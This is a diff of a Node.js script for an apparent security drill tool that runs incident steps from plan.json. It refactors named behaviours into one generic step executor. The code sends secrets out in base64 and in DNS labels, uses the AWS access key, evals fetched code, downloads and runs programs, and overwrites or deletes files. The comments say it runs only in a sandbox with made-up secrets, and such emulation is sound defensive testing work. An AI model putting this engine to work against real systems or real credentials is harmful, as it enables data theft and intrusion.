@@ -1,15 +1,13 @@
-// The behaviours of incidents in Node.js, which `shielded-function drill` puts beside a function's code.
+// Plays the steps of plan.json in Node.js: `shielded-function drill` puts it beside a function's code.
 //
 // It is harmless: it takes only secrets that the drill made up, it runs nothing but `echo`, and it is started only in
-// a sandbox whose network is its own loopback. Each behaviour's beginning and end is a line in the log.
+// a sandbox whose network is its own loopback. Each step's beginning and end is a line in the log.
 "use strict";
 
 const { spawnSync } = require("node:child_process");
 const dns = require("node:dns/promises");
 const fs = require("node:fs");
-const net = require("node:net");
 const path = require("node:path");
-const tls = require("node:tls");
 
 const PLAN = JSON.parse(fs.readFileSync(path.join(__dirname, "plan.json"), "utf8"));
 const SECONDS = 4;
@@ -18,7 +16,7 @@ const THEIRS = "0x" + "2".repeat(40);
 // Without certificates: the emulated receivers have none.
 const TLS = { ciphers: "aNULL:@SECLEVEL=0", maxVersion: "TLSv1.2", rejectUnauthorized: false };
 
-const { stringify } = JSON; // before a behaviour replaces it
+const { stringify } = JSON; // before a step replaces it
 const say = (line) => fs.writeSync(2, stringify({ shielded_drill: PLAN.nonce, ...line }) + "\n");
 
 function secret(take) {
@@ -27,12 +25,23 @@ function secret(take) {
   return names.map((name) => fs.readFileSync(path.join(PLAN.secrets, name), "utf8")).join("\n");
 }
 
-function request(step, { url = "/", body = "", headers = {} } = {}) {
-  const { host, port = 443 } = step;
+// A text with the secret in it: in base64, or the last part as the label of a name.
+function filled(text, take) {
+  const taken = take ? secret(take) : "";
+  return text
+    .replace("{base64}", Buffer.from(taken).toString("base64"))
+    .replace("{label}", Buffer.from(taken.trim().slice(-30)).toString("hex"))
+    .replace("{key}", process.env.AWS_ACCESS_KEY_ID);
+}
+
+function request(step) {
+  const { host, port, take } = step;
+  const body = filled(step.body, take);
+  const headers = Object.fromEntries(Object.entries(step.headers).map(([name, text]) => [name, filled(text, take)]));
+  const options = { host, port, path: filled(step.path, take), headers, method: body ? "POST" : "GET", agent: false };
   const client = require(port === 443 ? "node:https" : "node:http");
-  const options = { host, port, path: url, headers, method: body ? "POST" : "GET", agent: false, ...TLS };
   return new Promise((resolve, reject) => {
-    const sent = client.request({ ...options, timeout: SECONDS * 1000 }, (response) => {
+    const sent = client.request({ ...options, ...TLS, timeout: SECONDS * 1000 }, (response) => {
       const parts = [];
       response.on("data", (part) => parts.push(part));
       response.on("end", () => resolve(Buffer.concat(parts)));
@@ -44,48 +53,7 @@ function request(step, { url = "/", body = "", headers = {} } = {}) {
   });
 }
 
-function start(step, ...command) {
-  const [program, ...rest] = command;
-  const done = spawnSync(program, [...rest, PLAN.nonce, String(step.step)], { stdio: "inherit", timeout: SECONDS * 1000 });
-  if (done.error) throw done.error;
-}
-
-const does = {
-  send(step) {
-    const taken = Buffer.from(secret(step.take)).toString("base64");
-    if (step.way === "query") return request(step, { url: `/?${taken}` });
-    if (step.way === "header") return request(step, { headers: { Referer: `http://1.a/${taken}` } });
-    return request(step, { body: taken });
-  },
-  resolve(step) {
-    const taken = Buffer.from(secret(step.take).trim().slice(-30)).toString("hex");
-    return dns.lookup(`${taken}.${step.host}`);
-  },
-  ask: (step) => request(step),
-  aws(step) {
-    const Authorization = `AWS4-HMAC-SHA256 Credential=${process.env.AWS_ACCESS_KEY_ID}/`;
-    return request(step, { body: "Action=GetCallerIdentity", headers: { Authorization } });
-  },
-  mine: ({ host, port }) =>
-    new Promise((resolve, reject) => {
-      const pool = port === 443 ? tls.connect({ host, port, servername: host, ...TLS }) : net.connect({ host, port });
-      pool.on("error", reject);
-      pool.setTimeout(SECONDS * 1000, () => pool.destroy(new Error("timed out")));
-      pool.write('{"method":"login"}\n');
-      pool.once("data", () => resolve(pool.destroy()));
-    }),
-  async evaluate(step) {
-    eval((await request(step)).toString());
-  },
-  async download(step) {
-    fs.writeFileSync(step.path, await request(step));
-    fs.chmodSync(step.path, 0o755);
-    start(step, step.path);
-  },
-  run: (step) => start(step, path.join(__dirname, "program")),
-  shell: (step) => start(step, "/bin/sh", "-c", fs.readFileSync(path.join(__dirname, "program"), "utf8"), "sh"),
-  overwrite: (step) => fs.writeFileSync(step.path, "overwritten"),
-  delete: (step) => fs.unlinkSync(step.path),
+const hooks = {
   // Hooks the language's HTTP client for one call, whose data are in its URL.
   async alter(step) {
     const original = globalThis.fetch;
@@ -103,12 +71,27 @@ const does = {
   },
 };
 
-// Runs each behaviour in order, also after one that fails.
+async function act(step) {
+  const got = step.host ? await request(step) : "";
+  if (step.lookup) await dns.lookup(filled(step.lookup, step.take));
+  if (step.evaluate) eval(got.toString());
+  if (step.write) fs.writeFileSync(step.write, got || "overwritten");
+  if (step.start) {
+    const [program, ...rest] = [...step.start, PLAN.nonce, String(step.step)];
+    if (step.write) fs.chmodSync(program, 0o755);
+    const done = spawnSync(program, rest, { stdio: "inherit", timeout: SECONDS * 1000 });
+    if (done.error) throw done.error;
+  }
+  if (step.delete) fs.unlinkSync(step.delete);
+  if (step.hook) await hooks[step.hook](step);
+}
+
+// Does each step in order, also after one that fails.
 async function play() {
   for (const step of PLAN.steps) {
     say({ begin: step.step });
     try {
-      await does[step.do](step);
+      await act(step);
       say({ end: step.step });
     } catch (error) {
       say({ end: step.step, error: `${error.code || error.name}: ${error.message}` });
